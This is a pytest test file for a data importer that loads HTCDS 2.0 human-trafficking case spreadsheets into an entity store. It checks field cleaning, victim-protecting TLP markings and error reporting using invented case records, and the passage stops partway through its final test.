"""HTCDS 2.0 import: field table, cleaning, entity shapes, victim markings, errors."""

from __future__ import annotations

import csv
import datetime as dt
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from nsids import nsid
from sqlalchemy import select

from gugus import admin, reads
from gugus.access import Reader
from gugus.errors import InvalidInput, NotFound
from gugus.ingest import htcds
from gugus.ingest.htcds_fields import (
    FIELDS,
    TARGET_SCHEMA,
    TEMPLATE_COLUMNS,
    clean_cell,
    clean_date,
    parse_marking,
    read_tag,
    render_marking,
)
from gugus.model.markings import TLP, Marking
from gugus.model.roles import Role
from gugus.store import directory
from gugus.store import statements as stmt_sql
from gugus.store.tables import statements

FIXTURES = Path(__file__).parent / "fixtures" / "htcds"
REFERENCE = Path(__file__).resolve().parents[3] / "shared" / "reference"
ODS = REFERENCE / "HTCDS Field Standards 2.0.ods"
TEMPLATE = REFERENCE / "HTCDS Excel Spreadsheet v2.0.xlsx"


# -- a small task force -----------------------------------------------------------------
def task_force(node):
    """MX-FGR (collections 'fgr': AMBER H1 released to US-HSI, country MX; and
    'open': CLEAR, no country), US-HSI and GT-MP, an analyst each."""
    users = {}
    with node.db.writer.begin() as conn:
        for code, country in (("MX-FGR", "MX"), ("US-HSI", "US"), ("GT-MP", "GT")):
            directory.add_organisation(conn, code, code, country)
        for name, org in (("luis", "MX-FGR"), ("ana", "US-HSI"), ("gabi", "GT-MP")):
            uid = directory.add_user(conn, name, org, "analyst", "not-a-hash")
            users[name] = Reader(name, org, Role.ANALYST, uid)
    admin.add_collection(
        node, "fgr", "MX-FGR", "amber", ["H1"], release_to=["US-HSI"], country="MX"
    )
    admin.add_collection(node, "open", "MX-FGR", "clear", None)
    node.users = users
    return node


@pytest.fixture
def tf(node):
    return task_force(node)


@pytest.fixture
def tf_sqlite(sqlite_node):
    return task_force(sqlite_node)


def count(node) -> int:
    with node.db.reader.connect() as conn:
        return stmt_sql.count(conn)


def entities(node, reader, collection="fgr") -> dict[str, dict]:
    """What ``reader`` sees of a collection, entity id → assembled entity."""
    import json

    out: dict[str, dict] = {}
    for line in reads.export_collection(node, reader, collection):
        data = json.loads(line)
        ent = out.setdefault(data["id"], {"schema": data["schema"], "properties": {}})
        for prop, values in data["properties"].items():
            ent["properties"].setdefault(prop, []).extend(values)
    return out


def by_name(ents: dict, name: str) -> tuple[str, dict]:
    found = [(i, e) for i, e in ents.items() if name in e["properties"].get("name", [])]
    assert len(found) == 1, (name, found)
    return found[0]


def linked(ents: dict, schema: str, prop: str, target: str) -> list[dict]:
    return [
        e
        for e in ents.values()
        if e["schema"] == schema and target in e["properties"].get(prop, [])
    ]


def tags(ent: dict, prop: str = "keywords") -> set[str]:
    return {v for v in ent["properties"].get(prop, []) if read_tag(v)}


# -- the field table ---------------------------------------------------------------------
def _ods_fields() -> dict[str, tuple[str, str]]:
    from lxml import etree

    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    root = etree.fromstring(zipfile.ZipFile(ODS).read("content.xml"))
    out = {}
    for row in root.iter(f"{{{table}}}table-row"):
        cells = []
        for cell in row:
            n = min(int(cell.get(f"{{{table}}}number-columns-repeated", "1")), 20)
            value = "\n".join("".join(p.itertext()) for p in cell.findall(f"{{{text}}}p"))
            cells += [value] * n
        cells += [""] * 13
        prefix, name = cells[3].strip(), cells[4].strip()
        if prefix.endswith("_") and name:
            out[cells[6].strip() or prefix + name] = (cells[5].strip(), cells[9])
    return out


@pytest.mark.skipif(not ODS.exists(), reason="IOM reference files not present")
def test_field_table_is_the_ods_field_list():
    ods = _ods_fields()
    assert set(FIELDS) == set(ods)
    for code, (label, values) in ods.items():
        f = FIELDS[code]
        assert f.label == (label or code.split("_", 1)[1])
        if "Use ISO" not in values:
            assert list(f.values) == [v.strip() for v in values.split("\n") if v.strip()]


@pytest.mark.skipif(not TEMPLATE.exists(), reason="IOM reference files not present")
def test_template_columns_are_iom_templates():
    book = openpyxl.load_workbook(TEMPLATE, read_only=True)
    codes, labels = list(book.worksheets[0].iter_rows(max_row=2, values_only=True))
    book.close()
    columns, header_rows = htcds.resolve_columns(TEMPLATE, [(1, list(codes)), (2, list(labels))])
    assert header_rows == 2
    assert [c.code for c in columns if c.code] == list(TEMPLATE_COLUMNS)


def test_every_field_has_a_home_in_ftm():
    from followthemoney import model

    for f in FIELDS.values():
        schema = model.get(TARGET_SCHEMA[f.target])
        for prop in filter(None, [f.prop, f.tag_prop if f.tagged else None]):
            assert schema.get(prop) is not None, (f.code, prop)


# -- cleaning ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("raw", "value", "reason"),
    [
        ("2008-03-15", "2008-03-15", None),
        ("2008-03", "2008-03", None),
        ("15/03/2008", "2008-03-15", None),  # day first (Mexico)
        ("03/15/2008", "2008-03-15", None),  # month first (US)
        ("04/04/2008", "2008-04-04", None),
        ("03/04/2008", None, "ambiguous day/month order"),
        ("31/02/2008", None, "not a date"),
        ("2008/3/5", "2008-03-05", None),
        ("15 de marzo de 2008", "2008-03-15", None),
        ("March 3, 2008", "2008-03-03", None),
        ("marzo de 2008", "2008-03", None),
        ("ayer", None, "not a date"),
        ("sin dato", None, "not a date"),
    ],
)
def test_clean_date(raw, value, reason):
    got, why = clean_date(raw)
    assert got == value
    if reason:
        assert reason in why


@pytest.mark.parametrize(
    ("code", "raw", "countries", "values", "dropped"),
    [
        ("prs_MobilePhone", "+52 55 1234 5678", [], ["+525512345678"], False),
        ("prs_MobilePhone", "55 1234 5678", ["mx"], ["+525512345678"], False),
        ("prs_MobilePhone", "5512 3456", ["mx", "gt"], ["+50255123456"], False),
        ("prs_MobilePhone", "55 1234 5678", [], [], True),
        (
            "prs_MobilePhone",
            "+52 55 1234 5678 / +52 962 123 4567",
            [],
            ["+525512345678", "+529621234567"],
            False,
        ),
        (
            "prs_Email",
            "ana@example.org; bea@example.mx",
            [],
            ["ana@example.org", "bea@example.mx"],
            False,
        ),
        ("prs_Email", "ana(at)example", [], [], True),
        ("con_Consent", "Sí", [], ["true"], False),
        ("con_Consent", "0", [], ["false"], False),
        ("con_Consent", "quizás", [], [], True),
        ("prs_Citizenship", "Guatemala; El Salvador", [], ["gt", "sv"], False),
        ("prs_Citizenship", "MX, US", [], ["mx", "us"], False),
        ("prs_Citizenship", "Korea, Republic of", [], ["kr"], False),
        ("prs_Citizenship", "MX; Atlantis", [], ["mx"], True),
        (
            "vic_TraffickingStatus",
            "Actual victim of trafficking",
            [],
            ["ActualVictimOfTrafficking"],
            False,
        ),
        (
            "vic_TraffickingStatus",
            "actualvictimoftrafficking",
            [],
            ["ActualVictimOfTrafficking"],
            False,
        ),
        (
            "vic_MethodsOfControl",
            "Debt bondage; withholds-documents",
            [],
            ["DebtBondage", "WithholdsDocuments"],
            False,
        ),
        ("vic_ForcedLabourIndustry", "c", [], ["C_Manufacturing"], False),
        ("per_RoleInProcess", "Reclutador", [], ["RecruiterOrIntermediary"], False),
        ("per_RoleInProcess", "Puntero", [], ["Puntero"], False),  # kept as given
        ("vic_AgeWhenTrafficked", "14", [], ["14"], False),
        ("vic_AgeWhenTrafficked", "catorce", [], [], True),
        ("hte_Latitude", "14,8347", [], ["14.8347"], False),
        ("hte_Latitude", "114.1", [], [], True),
        ("hte_Longitude", "-91.518", [], ["-91.518"], False),
        ("prs_PrimaryLanguage", "español", [], ["spa"], False),
        ("hte_Country", "Estados Unidos", [], ["us"], False),
    ],
)
def test_clean_cell(code, raw, countries, values, dropped):
    got, reason = clean_cell(FIELDS[code], raw, countries)
    assert got == values
    assert (reason is not None) == dropped


markings = st.builds(
    Marking.build,
    st.sampled_from([TLP.CLEAR, TLP.GREEN, TLP.AMBER, TLP.AMBER_STRICT]),
    st.just("MX-FGR"),
    st.sets(st.sampled_from(["H0", "H1", "H2"])),
    st.none(),
    st.sets(st.sampled_from(["US-HSI", "GT-MP"])),
    st.none(),
    st.one_of(st.none(), st.text(min_size=1, max_size=20).filter(str.strip)),
)


@given(markings)
def test_marking_cell_reads_back(marking):
    data = parse_marking(render_marking(marking), "x")
    assert Marking.from_dict(data, "MX-FGR") == marking


def test_marking_cell_errors():
    with pytest.raises(InvalidInput, match="x: a marking starts with its TLP level"):
        parse_marking("H2 release_to=US-HSI", "x")
    with pytest.raises(InvalidInput, match="unknown marking field 'colour'"):
        parse_marking("TLP:AMBER colour=red", "x")
    with pytest.raises(InvalidInput, match="x: a word is not part of a marking") as info:
        parse_marking("TLP:AMBER secret", "x")
    assert "secret" not in info.value.message  # a cell's words are never quoted


BASES = [
    Marking.build("clear", "MX-FGR"),
    Marking.build("green", "MX-FGR", release_to=["US-HSI", "GT-MP"]),
    Marking.build("amber", "MX-FGR", ["H1"], release_to=["US-HSI"], purpose="TF-2021"),
    Marking.build("amber+strict", "MX-FGR", ["H3"], "solo fiscalía", release_to=["US-HSI"]),
    Marking.build("red", "MX-FGR", ["H0"], release_to=["US-HSI"], recipients=["ana", "luis"]),
]


@pytest.mark.parametrize("base", BASES, ids=lambda m: m.label())
@pytest.mark.parametrize("minor", [False, True])
def test_protected_marking_is_the_strictest_the_collection_allows(base, minor):
    got = htcds.protected_marking(base, minor=minor)
    assert got.loosening_against(base) == []
    assert {"H2"} | ({"H1"} if minor else set()) <= got.handling
    assert base.handling <= got.handling
    assert (got.handling_text, got.purpose, got.originator) == (
        base.handling_text,
        base.purpose,
        base.originator,
    )
    if base.tlp is TLP.RED:
        assert (got.tlp, got.recipients, got.release_to) == (
            TLP.RED,
            base.recipients,
            base.release_to,
        )
    else:
        # Only the originating organisation: no partner is on the list.
        assert (got.tlp, got.release_to, got.recipients) == (
            TLP.AMBER_STRICT,
            frozenset(),
            frozenset(),
        )


# -- header -------------------------------------------------------------------------------
def test_unknown_columns_are_named_with_close_matches(tf_sqlite):
    with pytest.raises(InvalidInput) as info:
        htcds.load_htcds(tf_sqlite, "fgr", FIXTURES / "unknown_columns.csv")
    message = info.value.message
    assert "unknown_columns.csv: unknown column(s) in row 1" in message
    assert "B 'prs_Frstname' (did you mean prs_FirstName?)" in message
    assert "C 'Notas'" in message
    assert "gugus_comment" not in message.split("—")[0]  # gugus_ columns are ignored
    assert count(tf_sqlite) == 0


@pytest.mark.parametrize(
    ("header", "message"),
    [
        (
            "First Name,Second Name\nAna,Ruiz\n",
            "row 1 holds field labels; it must hold HTCDS field codes",
        ),
        ("prs_FirstName,prs_firstname\nAna,Ana\n", "columns A and B both hold prs_FirstName"),
        ("gugus_entity_id,\nx,\n", "no HTCDS field code in row 1"),
        (",prs_FirstName\n,Type\n", None),  # an ambiguous label is fine where row 1 has a code
        ("", "the file is empty"),
    ],
)
def test_bad_headers(tf_sqlite, tmp_path, header, message):
    path = tmp_path / "h.csv"
    path.write_text(header, encoding="utf-8")
    if message is None:
        htcds.load_htcds(tf_sqlite, "fgr", path, on_error="skip")
        return
    with pytest.raises(InvalidInput, match=message):
        htcds.load_htcds(tf_sqlite, "fgr", path)
    assert count(tf_sqlite) == 0


def test_column_without_code_is_named_by_its_label(tf_sqlite, tmp_path):
    path = tmp_path / "h.csv"
    path.write_text(
        "prs_FirstName,,\nFirst Name,Reason for Outgoing Referral,Type\nAna,Other,\n",
        encoding="utf-8",
    )
    with pytest.raises(
        InvalidInput,
        match="column C has no field code and its label 'Type' fits org_Type, hte_Type, spl_Type",
    ):
        htcds.load_htcds(tf_sqlite, "fgr", path)


def test_files_that_are_not_case_files(tf_sqlite, tmp_path):
    with pytest.raises(NotFound, match="nope.csv: no such file"):
        htcds.load_htcds(tf_sqlite, "fgr", tmp_path / "nope.csv")
    (tmp_path / "x.json").write_text("{}", encoding="utf-8")
    with pytest.raises(InvalidInput, match=r"\.xlsx or \.csv"):
        htcds.load_htcds(tf_sqlite, "fgr", tmp_path / "x.json")
    (tmp_path / "fake.xlsx").write_text("not a zip", encoding="utf-8")
    with pytest.raises(InvalidInput, match="fake.xlsx: not a readable XLSX workbook"):
        htcds.load_htcds(tf_sqlite, "fgr", tmp_path / "fake.xlsx")
    (tmp_path / "latin1.csv").write_bytes("prs_FirstName\nJosé\n".encode("latin-1"))
    with pytest.raises(InvalidInput, match="latin1.csv: not UTF-8 text"):
        htcds.load_htcds(tf_sqlite, "fgr", tmp_path / "latin1.csv")
    assert count(tf_sqlite) == 0


# -- entity shapes ------------------------------------------------------------------------
def test_entity_shapes(tf):
    summary = htcds.load_htcds(tf, "fgr", FIXTURES / "cases.csv")
    assert (summary.lines, summary.skipped, summary.errors) == (6, 0, [])  # data rows
    ents = entities(tf, tf.users["luis"])

    pid, maria = by_name(ents, "María José Pérez López")
    props = maria["properties"]
    assert maria["schema"] == "Person"
    assert (props["firstName"], props["lastName"]) == (["María José"], ["Pérez López"])
    assert props["gender"] == ["female"]
    assert props["citizenship"] == ["gt"]
    assert props["phone"] == ["+525512345678"]  # no +: read in the mailing country
    assert props["classification"] == ["victim"]
    assert "topics" not in props  # no crime topic on a victim
    assert tags(maria) >= {
        "vic_TraffickingStatus: ActualVictimOfTrafficking",
        "vic_MethodsOfControl: DebtBondage",
        "vic_MethodsOfControl: WithholdsDocuments",
        "vic_TypeOfExploitation: SexualExploitation",
        "con_Consent: true",
        "prs_Gender: Feminine",
        "prs_MobilePhone: +525512345678",
    }
    [home] = [ents[a] for a in props["addressEntity"]]
    assert home["properties"]["full"] == ["Tapachula, Chiapas, MX"]
    # Two rows, one person: two historic trafficking events plus the location of recruitment.
    events = linked(ents, "Event", "involved", pid)
    assert sorted(e["properties"]["name"][0] for e in events) == [
        "Recruitment: Quetzaltenango, GT",
        "Recruitment: Quetzaltenango, Guatemala",
        "Transit: Tecún Umán, GT",
    ]
    recruitment = next(e for e in events if e["properties"].get("date") == ["2021-03-15"])
    assert recruitment["properties"]["country"] == ["gt"]
    [place] = [ents[a] for a in recruitment["properties"]["addressEntity"]]
    assert (place["properties"]["latitude"], place["properties"]["longitude"]) == (
        ["14.8347"],
        ["-91.518"],
    )
    [party] = linked(ents, "CourtCaseParty", "party", pid)
    assert party["properties"]["role"] == ["victim"]
    case = ents[party["properties"]["case"][0]]
    assert case["schema"] == "CourtCase"
    assert case["properties"]["status"] == ["Active"]
    assert tags(case) == {
        "cas_IncomingReferralDate: 2021-06-07",
        "cas_ReferringOrganisation: Casa del Migrante Tapachula",
    }
    assert tags(case, "notes") == {
        "cas_IncomingReferralDetails: Remitida por la Fiscalía; requiere albergue, atención médica"
    }

    juan_id, juan = by_name(ents, "Juan Carlos Ramírez Soto")
    props = juan["properties"]
    assert props["topics"] == ["crime.traffick.human"]
    assert set(props["classification"]) == {
        "perpetrator",
        "Recruiter Or Intermediary",
        "Transporter",
    }
    assert {"per_RoleInProcess: RecruiterOrIntermediary", "per_RoleInProcess: Transporter"} <= tags(
        juan
    )
    assert props["idNumber"] == ["RASJ790430HCSMTN09"]
    assert props["phone"] == ["+529621234567"]
    rosa_id, _ = by_name(ents, "Rosa Méndez")
    # One organisation for both perpetrators: a shared selector.
    orgs = {
        m["properties"]["organization"][0]
        for pid_ in (juan_id, rosa_id)
        for m in linked(ents, "Membership", "member", pid_)
    }
    assert len(orgs) == 1
    assert ents[orgs.pop()]["properties"]["name"] == ["Los Halcones"]

    _, ana = by_name(ents, "Ana")
    assert ana["properties"]["citizenship"] == ["gt", "sv"]
    assert ana["properties"]["classification"] == ["victim"]  # victim context, no status

    # Rosa's ambiguous birth date and broken email are dropped, counted, located.
    assert summary.dropped == 2
    where = {d["where"].split("cases.csv: ")[1]: d for d in summary.dropped_values}
    assert where["row 7, column C (prs_Birthdate)"]["reason"].startswith("ambiguous")
    assert where["row 7, column G (prs_Email)"]["value"] == "rosa.mendez(at)example"


def marking_of(node, entity_id: str) -> dict:
    """Marking of an entity's id statement (what loading it decided)."""
    from gugus.store.tables import markings

    with node.db.reader.connect() as conn:
        row = conn.execute(
            select(markings)
            .join(statements, statements.c.marking_id == markings.c.id)
            .where(statements.c.entity_id == entity_id, statements.c.prop == "id")
        ).one()
    return dict(row._mapping)


def test_victims_are_visible_only_to_the_originator(tf):
    htcds.load_htcds(tf, "fgr", FIXTURES / "cases.csv")
    luis, ana, gabi = (tf.users[u] for u in ("luis", "ana", "gabi"))
    mine = entities(tf, luis)
    theirs = entities(tf, ana)
    victims = {"María José Pérez López", "José Luis Hernández", "Ana"}
    perpetrators = {"Juan Carlos Ramírez Soto", "Rosa Méndez"}
    names = lambda ents: {n for e in ents.values() for n in e["properties"].get("name", [])}  # noqa: E731
    assert victims | perpetrators <= names(mine)
    assert perpetrators <= names(theirs)
    assert not victims & names(theirs)
    # Nothing of a victim's rows reaches the partner: events, cases, addresses.
    assert {e["schema"] for e in theirs.values()} == {
        "Person",
        "Address",  # Juan Carlos's mailing address
        "Organization",
        "Membership",
    }
    for name in victims:
        pid, _ = by_name(mine, name)
        with pytest.raises(NotFound):
            reads.get_entity(tf, ana, pid)
        seen = reads.get_entity(tf, luis, pid)["marking"]
        assert (seen["tlp"], seen["release_to"]) == ("amber+strict", [])
        assert {"H1", "H2"} <= set(seen["handling"])
    pid, _ = by_name(mine, "Juan Carlos Ramírez Soto")
    assert reads.get_entity(tf, ana, pid)["marking"]["tlp"] == "amber"
    with pytest.raises(NotFound):
        reads.get_entity(tf, gabi, pid)  # 'fgr' is not released to GT-MP
    # The second row of María (an event, no victim fields) is protected too.
    maria, _ = by_name(mine, "María José Pérez López")
    transit = next(
        e
        for e in linked(mine, "Event", "involved", maria)
        if "Transit" in e["properties"]["name"][0]
    )
    assert transit["properties"]["date"] == ["2021-03-20"]


def test_minor_gets_h1_in_a_collection_without_codes(tf_sqlite, tmp_path):
    tf = tf_sqlite
    path = tmp_path / "m.csv"
    path.write_text(
        "prs_FirstName,prs_Birthdate,vic_TraffickingStatus,cas_IncomingReferralDate,gugus_role\n"
        "Adulta,1990-01-01,Actual victim of trafficking,2021-06-01,\n"
        "Niña,2004-06,Possible victim of trafficking,2021-06-01,\n"  # 17 at referral
        "Joven,2003-05-31,Actual victim of trafficking,2021-06-01,\n"  # 18 the day before
        "Testigo,1980-01-01,,,victim\n",
        encoding="utf-8",
    )
    htcds.load_htcds(tf, "open", path)
    ents = entities(tf, tf.users["luis"], "open")
    handling = {
        name: marking_of(tf, by_name(ents, name)[0])["handling"]
        for name in ("Adulta", "Niña", "Joven", "Testigo")
    }
    assert handling == {"Adulta": "H2", "Niña": "H1,H2", "Joven": "H2", "Testigo": "H2"}
    assert marking_of(tf, by_name(ents, "Testigo")[0])["tlp"] == "amber+strict"


def test_perpetrator_rows_keep_the_collection_marking_and_gugus_marking_tightens(
    tf_sqlite, tmp_path
):
    tf = tf_sqlite
    path = tmp_path / "p.csv"
    path.write_text(
        "prs_FirstName,per_RoleInProcess,gugus_marking\n"
        "Uno,Smuggler,\n"
        "Dos,Smuggler,TLP:AMBER+STRICT H1 H2 originator=MX-FGR\n"
        "Tres,Smuggler,TLP:CLEAR\n",  # cannot loosen: the collection's stays
        encoding="utf-8",
    )
    htcds.load_htcds(tf, "fgr", path)
    ents = entities(tf, tf.users["luis"])
    got = {n: marking_of(tf, by_name(ents, n)[0]) for n in ("Uno", "Dos", "Tres")}
    assert (got["Uno"]["tlp"], got["Uno"]["release_to"]) == ("amber", "US-HSI")
    assert (got["Dos"]["tlp"], got["Dos"]["handling"]) == ("amber+strict", "H1,H2")
    assert got["Tres"] == got["Uno"]


def test_gugus_marking_of_another_originator_is_refused(tf_sqlite, tmp_path):
    tf = tf_sqlite
    path = tmp_path / "p.csv"
    path.write_text(
        "prs_FirstName,gugus_marking\nUno,TLP:AMBER originator=US-HSI release_to=MX-FGR\n",
        encoding="utf-8",
    )
    with pytest.raises(InvalidInput) as info:
        htcds.load_htcds(tf, "fgr", path)
    assert "p.csv: row 2, column B (gugus_marking)" in info.value.message
    assert "'US-HSI' is not the collection's organisation" in info.value.message
    assert count(tf) == 0


# -- phones and countries --------------------------------------------------------------------
def test_phone_without_plus_and_no_country_is_dropped(tf_sqlite, tmp_path):
    tf = tf_sqlite
    path = tmp_path / "p.csv"
    path.write_text(
        "prs_FirstName,prs_MobilePhone,prs_Citizenship\n"
        "Uno,4567,\n"  # valid in no country
        "Dos,5512 3456,GT\n",
        encoding="utf-8",
    )
    summary = htcds.load_htcds(tf, "open", path)
    ents = entities(tf, tf.users["luis"], "open")
    assert "phone" not in by_name(ents, "Uno")[1]["properties"]
    assert by_name(ents, "Dos")[1]["properties"]["phone"] == ["+50255123456"]
    assert summary.dropped == 1
    assert "not a valid phone number" in summary.dropped_values[0]["reason"]
    # Without any country to read it in, the reason says so.
    assert clean_cell(FIELDS["prs_MobilePhone"], "962 123 4567", []) == (
        [],
        "not a valid phone number (no + and no country to read it in)",
    )


# -- idempotence and errors -----------------------------------------------------------------
def test_reload_is_idempotent(tf):
    first = htcds.load_htcds(tf, "fgr", FIXTURES / "cases.csv")
    with tf.db.reader.connect() as conn:
        before = set(conn.execute(select(statements.c.id, statements.c.marking_id)).all())
    second = htcds.load_htcds(tf, "fgr", FIXTURES / "cases.csv")
    with tf.db.reader.connect() as conn:
        after = set(conn.execute(select(statements.c.id, statements.c.marking_id)).all())
    assert before == after
    assert (first.statements, first.entities) == (second.statements, second.entities)
    assert second.kept_stricter == 0


def test_bad_row_aborts_everything(tf):
    with pytest.raises(InvalidInput) as info:
        htcds.load_htcds(tf, "fgr", FIXTURES / "bad_rows.csv")
    message = info.value.message
    assert "bad_rows.csv: row 3, column C (gugus_role): unknown role (allowed:" in message
    assert "testigo" not in message  # the cell's content is never quoted
    assert message.endswith("nothing was loaded")
    assert count(tf) == 0


def test_bad_rows_skipped(tf):
    summary = htcds.load_htcds(tf, "fgr", FIXTURES / "bad_rows.csv", on_error="skip")
    assert summary.skipped == 2
    assert [e["line"] for e in summary.errors] == [3, 4]
    assert "column D (gugus_entity_id): not a valid entity id" in summary.errors[1]["error"]
    assert "bad id" not in summary.errors[1]["error"]
    ents = entities(tf, tf.users["luis"])
    assert {n for e in ents.values() for n in e["properties"].get("name", [])} == {
        "Lucía Torres",
        "Marta Díaz",
    }
    assert by_name(ents, "Lucía Torres")[1]["properties"]["classification"] == ["victim"]
    assert by_name(ents, "Marta Díaz")[1]["properties"]["classification"] == ["perpetrator"]


def test_values_in_a_column_without_code_fail_the_row(tf_sqlite, tmp_path):
    tf = tf_sqlite
    path = tmp_path / "x.csv"
    path.write_text(
        "prs_FirstName,,gugus_note\nAna,7,revisado\nBea,nota suelta,\n", encoding="utf-8"
    )
    summary = htcds.load_htcds(tf, "fgr", path, on_error="skip")
    assert summary.skipped == 1  # Ana's row counter and gugus_ note are no data
    assert "row 3, column B: a value in a column with no field code" in summary.errors[0]["error"]
    assert "nota suelta" not in summary.errors[0]["error"]


# -- layouts ----------------------------------------------------------------------------------
def _as_xlsx(csv_path: Path, xlsx_path: Path, *, labels: bool = True) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    with open(csv_path, encoding="utf-8", newline="") as handle:
        for n, row in enumerate(csv.reader(handle), start=1):
            if n == 2 and not labels:
                continue
            sheet.append([v or None for v in row])
    book.save(xlsx_path)
    return xlsx_path


def test_xlsx_without_labels_row_loads_the_same_statements_as_csv(tf, tmp_path):
    htcds.load_htcds(tf, "fgr", FIXTURES / "cases.csv")
    with tf.db.reader.connect() as conn:
        before = set(conn.execute(select(statements.c.id, statements.c.marking_id)).all())
    xlsx = _as_xlsx(FIXTURES / "cases.csv", tmp_path / "cases.xlsx", labels=False)
    summary = htcds.load_htcds(tf, "fgr", xlsx)
    with tf.db.reader.connect() as conn:
        after = set(conn.execute(select(statements.c.id, statements.c.marking_id)).all())
    assert before == after
    assert (summary.lines, summary.dropped) == (6, 2)  # data rows, not the header


def test_iom_template_loads_empty_and_with_rows(tf, tmp_path):
    if not TEMPLATE.exists():
        pytest.skip("IOM reference files not present")
    summary = htcds.load_htcds(tf, "fgr", TEMPLATE)
    assert (summary.entities, summary.statements, summary.errors) == (0, 0, [])
    copy = tmp_path / "filled.xlsx"
    shutil.copy(TEMPLATE, copy)
    book = openpyxl.load_workbook(copy)
    sheet = book.worksheets[0]
    header = {v: i for i, v in enumerate(next(sheet.iter_rows(max_row=1, values_only=True)), 1)}
    rows = [
        {
            "cas_CaseOwner": "Lic. Gabriela Núñez",
            "prs_FirstName": "Sofía",
            "prs_SecondName": "Cruz",
            "prs_Birthdate": dt.datetime(2007, 2, 3),
            "prs_MobilePhone": 9621234567,  # typed as a number in Excel
            "prs_MailingCountry": "MX",
            "vic_TraffickinStatusDecisionMakingOrg": "Police",  # IOM's spelling
            "vic_TypeOfExploitation": "Forced begging",
            "cas_IncomingReferralDate": dt.datetime(2021, 7, 1),
        },
        {"prs_FirstName": "Mario", "prs_SecondName": "Vega", "cas_Status": "Closed"},
    ]
    for r, values in enumerate(rows, start=3):
        for code, value in values.items():
            sheet.cell(r, header[code], value)
    sheet.cell(4, 36, "Other")  # AJ: no code in IOM's row 1, labelled Reason for Outgoing Referral
    book.save(copy)
    summary = htcds.load_htcds(tf, "fgr", copy)
    assert (summary.errors, summary.dropped) == ([], 0)
    ents = entities(tf, tf.users["luis"])
    pid, sofia = by_name(ents, "Sofía Cruz")
    assert sofia["properties"]["phone"] == ["+529621234567"]
    assert sofia["properties"]["birthDate"] == ["2007-02-03"]
    assert "vic_TraffickingStatusDecisionMakingOrg: Police" in tags(sofia)
    assert marking_of(tf, pid)["handling"] == "H1,H2"  # a minor victim
    [party] = linked(ents, "CourtCaseParty", "party", pid)
    assert "cas_CaseOwner: Lic. Gabriela Núñez" in tags(ents[party["properties"]["case"][0]])
    mid, _ = by_name(ents, "Mario Vega")
    [party] = linked(ents, "CourtCaseParty", "party", mid)
    case = ents[party["properties"]["case"][0]]
    assert case["properties"]["status"] == ["Closed"]
    assert "cas_ReasonForOutgoingReferral: Other" in tags(case)


def test_xlsx_sheet_with_the_codes_is_read(tmp_path):
    book = openpyxl.Workbook()
    book.active.title = "Instrucciones"
    book.active.append(["Llene la hoja 'Casos'"])
    cases = book.create_sheet("Casos")
    cases.append(["prs_FirstName", "prs_Birthdate", "prs_NumberOfChildren", "con_Consent"])
    cases.append(["Inés", dt.datetime(2001, 5, 4), 2.0, True])
    book.save(tmp_path / "two.xlsx")
    assert htcds.read_table(tmp_path / "two.xlsx") == [
        (1, ["prs_FirstName", "prs_Birthdate", "prs_NumberOfChildren", "con_Consent"]),
        (2, ["Inés", "2001-05-04", "2", "true"]),
    ]


# -- XLSX formulas --------------------------------------------------------------------------
def _with_cached_values(path: Path, cached: dict[str, str | None]) -> Path:
    """Give formula cells of the first sheet a cached text result, as Excel or
    LibreOffice write it (openpyxl writes formulas without one); None: an
    empty text result."""
    out = path.with_name("cached-" + path.name)
    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(out, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                for ref, value in cached.items():
                    start = text.index(f'<c r="{ref}"')
                    end = text.index("</c>", start)
                    formula = text[text.index("<f>", start) : text.index("</f>", start) + 4]
                    text = (
                        text[:start]
                        + f'<c r="{ref}" t="str">{formula}<v>{value or ""}</v>'
                        + text[end:]
                    )
                data = text.encode()
            zout.writestr(item, data)
    return out


def _formula_book(path: Path) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Casos"
    sheet.append([None, "prs_FirstName", "prs_SecondName", "per_RoleInProcess"])
    sheet.append([1, '=PROPER("juan")', "Vega", "Explotador"])  # B2: a formula
    sheet.append([2, "Rosa", "Méndez", "Exploiter"])
    sheet.append(["=ROW()-1", "Luis", '=IF(1=1,"","x")', "Smuggler"])  # A4 counter, C4 empty
    sheet.append([4, "Eva", "Ruiz", "Kidnapper"])
    text = sheet.cell(5, 2)
    text.value, text.data_type = '=HYPERLINK("http://x.example","clic")', "s"  # text, not formula
    book.save(path)
    return path


def test_formula_without_a_computed_value_fails_its_row_naming_the_cell(tf_sqlite, tmp_path):
    tf = tf_sqlite
    path = _formula_book(tmp_path / "casos.xlsx")
    with pytest.raises(InvalidInput) as exc:
        htcds.load_htcds(tf, "fgr", path)
    message = exc.value.message
    assert (
        f"{path}: sheet Casos row 2, column B (prs_FirstName): formula without a computed"
        in message
    )
    assert "LibreOffice" in message and "PROPER" not in message  # not the formula: it may hold data
    assert count(tf) == 0
    summary = htcds.load_htcds(tf, "fgr", path, on_error="skip")
    assert [e["line"] for e in summary.errors] == [2, 4]  # C4: formula, cached nowhere
    assert "row 4, column C (prs_SecondName)" in summary.errors[1]["error"]
    names = {
        n for e in entities(tf, tf.users["luis"]).values() for n in e["properties"].get("name", [])
    }
    # The text cell that looks like a formula is loaded as the text it is.
    assert names == {"Rosa Méndez", '=HYPERLINK("http://x.example","clic") Ruiz'}


def test_formula_with_a_computed_value_loads_the_value(tf_sqlite, tmp_path):
    tf = tf_sqlite
    path = _with_cached_values(_formula_book(tmp_path / "casos.xlsx"), {"B2": "Juan", "C4": None})
    rows = dict(htcds.read_table(path))
    assert rows[2][1] == "Juan"
    assert rows[4][2] is None  # an empty text result is empty, not an error
    summary = htcds.load_htcds(tf, "fgr", path)
    assert (summary.errors, summary.lines) == ([], 4)
    names = {
        n for e in entities(tf, tf.users["luis"]).values() for n in e["properties"].get("name", [])
    }
    assert {"Juan Vega", "Luis"} <= names


def test_formula_in_the_header_is_refused(tmp_path, tf_sqlite):
    book = openpyxl.Workbook()
    book.active.append(["prs_FirstName", '=CONCAT("prs_","SecondName")'])
    book.active.append(["Ana", "Ruiz"])
    book.save(tmp_path / "h.xlsx")
    with pytest.raises(InvalidInput, match=r"row 1, column B: formula without a computed value"):
